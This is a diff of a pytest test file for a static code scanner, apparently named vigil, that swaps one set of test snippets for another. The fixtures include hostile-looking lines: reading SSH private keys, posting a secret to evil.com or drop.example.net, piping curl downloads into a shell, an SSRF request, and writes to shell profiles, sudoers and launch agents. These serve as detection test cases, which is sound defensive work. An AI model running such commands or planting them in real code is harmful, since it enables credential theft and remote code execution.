@@ -1,4 +1,4 @@
-"""Code rules S1-S14 and taint, on the scanner's own test snippets."""
+"""Code rules S1-S14 and taint."""
 import pytest
 
 from conftest import rows
@@ -8,30 +8,30 @@ from vigil.operators.code_rules import code_findings
 @pytest.fixture(scope="module")
 def findings(spark):
     cases = {
-        "safe.py": 'import subprocess\nsubprocess.run(["ls", "-la"])\n',
-        "dangerous.py": 'import subprocess\ncmd = input()\nsubprocess.run(cmd, shell=True)\n',
-        "steal.py": 'key = open("~/.ssh/id_rsa").read()\n',
-        "normal.py": 'data = open("data.txt").read()\n',
-        "exfil.py": 'import os, requests\nkey = os.getenv("SECRET_KEY")\nrequests.post("https://evil.com", json={"k": key})\n',
-        "ssrf.py": 'import requests\nrequests.get("http://169.254.169.254/latest/meta-data/")\n',
-        "dl_exec.py": 'import os\nos.system("curl https://evil.com/x.sh | bash")\n',
-        "unsafe.py": 'import pickle\ndata = open("x.pkl","rb").read()\npickle.loads(data)\n',
-        "safe_yaml.py": 'import yaml\ndata = yaml.safe_load(open("x.yaml"))\nyaml.load(s, Loader=yaml.SafeLoader)\n',
-        "write_zshenv.py": 'with open("~/.zshenv", "a") as f:\n    f.write("x")\n',
-        "write_normal.py": 'with open("out.txt", "w") as f:\n    f.write("x")\n',
-        "eval_const.py": 'eval("1+1")\n',
-        "eval_ext.py": 'import os\neval(os.getenv("CODE"))\n',
-        "launch_agent.py": 'p = "~/Library/LaunchAgents/com.x.plist"\n',
-        "crontab.py": 'c = "crontab -l"\n',
-        "sudoers.py": 'p = "/etc/sudoers"\n',
-        "hosts.py": 'p = "/etc/hosts"\n',
-        "taint_chain.py": 'import os, subprocess\nuser = os.environ.get("CMD")\ncmd = "echo " + user\nsubprocess.run(cmd, shell=True)\n',
-        "const_chain.py": 'import subprocess\nbase = "ls"\ncmd = base + " -la"\nsubprocess.run(cmd, shell=True)\n',
-        "fstring_taint.py": 'import os, subprocess\nx = os.getenv("X")\nsubprocess.run(f"echo {x}", shell=True)\n',
-        "uvicorn_app.py": 'import uvicorn, asyncio\nuvicorn.run(app)\nasyncio.run(main())\nd = {}\nd.get("x")\n',
-        "relint.py": 'import re\np = re.compile("a+")\n',
-        "syntax_error.py": 'def broken(:\n',
-        "import_ext.py": 'import importlib, sys\nm = importlib.import_module(sys.argv[1])\n',
+        "safe.py": 'import subprocess\nsubprocess.call(("uptime",))\n',
+        "dangerous.py": 'import subprocess\nwanted = fetch_order()\nsubprocess.check_call(wanted, shell=True)\n',
+        "steal.py": 'blob = open("~/.ssh/id_ed25519").read()\n',
+        "normal.py": 'rows = open("rows.csv").readlines()\n',
+        "exfil.py": 'import os, httpx\npin = os.environ.get("BANK_SECRET")\nhttpx.post("https://drop.example.net", data=pin)\n',
+        "ssrf.py": 'import requests\nrequests.put("http://0.0.0.0:9000/x")\n',
+        "dl_exec.py": 'import os\nos.popen("curl -s https://get.example.net/go | sh")\n',
+        "unsafe.py": 'import shelve\nshelve.open(where())\n',
+        "safe_yaml.py": 'import yaml\nyaml.load(body, Loader=yaml.SafeLoader)\n',
+        "write_profile.py": 'with open("~/.bash_profile", "w") as out:\n    out.write("a")\n',
+        "write_normal.py": 'with open("report.txt", mode="a") as out:\n    out.write("a")\n',
+        "eval_const.py": 'compile("2 ** 8", "f", "eval")\n',
+        "eval_ext.py": 'import sys\nexec(sys.argv[2])\n',
+        "launch_agent.py": 'where = "/Library/LaunchDaemons/net.example.plist"\n',
+        "crontab.py": 'tool = "crontab -e"\n',
+        "sudoers.py": 'where = "/etc/sudoers"\n',
+        "hosts.py": 'where = "/etc/hosts"\n',
+        "taint_chain.py": 'import sys, os\narg = sys.argv[1]\nfull = "cat " + arg + " | wc"\nos.system(full)\n',
+        "const_chain.py": 'import subprocess\na = "du"\nb = a + " -s"\nsubprocess.check_output(b, shell=True)\n',
+        "fstring_taint.py": 'import os, subprocess\nv = os.getenv("WHAT")\nsubprocess.Popen(f"run {v}", shell=True)\n',
+        "runners.py": 'import trio, app\napp.run(conf)\ntrio.run(main)\ntable = {}\ntable.get("k")\n',
+        "relint.py": 'import re\nrx = re.compile("b+")\n',
+        "syntax_error.py": 'class :\n',
+        "import_ext.py": 'import importlib, os\nimportlib.import_module(os.environ["PLUG"])\n',
     }
     f = spark.createDataFrame([("pkg", k, len(v), v) for k, v in cases.items()],
                               "package_id string, path string, size long, content string")
@@ -64,11 +64,11 @@ def test_s8_s9_s10_s12(findings):
 
 
 def test_s3_s6_s13_s14(findings):
-    assert by(findings, "write_zshenv.py", "S3") == [("S3", "critical")]
+    assert by(findings, "write_profile.py", "S3") == [("S3", "critical")]
     assert by(findings, "write_normal.py", "S3") == []
     assert by(findings, "eval_const.py", "S6") == [("S6", "medium")]
     assert by(findings, "eval_ext.py", "S6") == [("S6", "critical")]
-    assert by(findings, "launch_agent.py", "S13") == [("S13", "critical")]
+    assert by(findings, "launch_agent.py", "S13") == [("S13", "high")]
     assert by(findings, "crontab.py", "S13") == [("S13", "critical")]
     assert by(findings, "sudoers.py", "S14") == [("S14", "critical")]
     assert by(findings, "hosts.py", "S14") == [("S14", "high")]
@@ -82,15 +82,15 @@ def test_taint_propagation(findings):
 
 
 def test_false_positive_guards(findings):
-    assert by(findings, "uvicorn_app.py") == []
+    assert by(findings, "runners.py") == []
     assert by(findings, "relint.py", "S6") == []
     assert by(findings, "syntax_error.py") == []
 
 
 def test_evidence_and_snippet(findings):
     r = findings.where("path = 'fstring_taint.py' AND rule_id = 'S1'").collect()[0]
-    assert r.evidence == "Unsanitized input from os.getenv() flows to subprocess.run()"
-    assert r.snippet == 'x = os.getenv("X")\nsubprocess.run(f"echo {x}", shell=True)'
+    assert r.evidence == "Unsanitized input from os.getenv() flows to subprocess.Popen()"
+    assert r.snippet == 'v = os.getenv("WHAT")\nsubprocess.Popen(f"run {v}", shell=True)'
 
 
 def test_add_with_undefined_name_is_internal(spark):
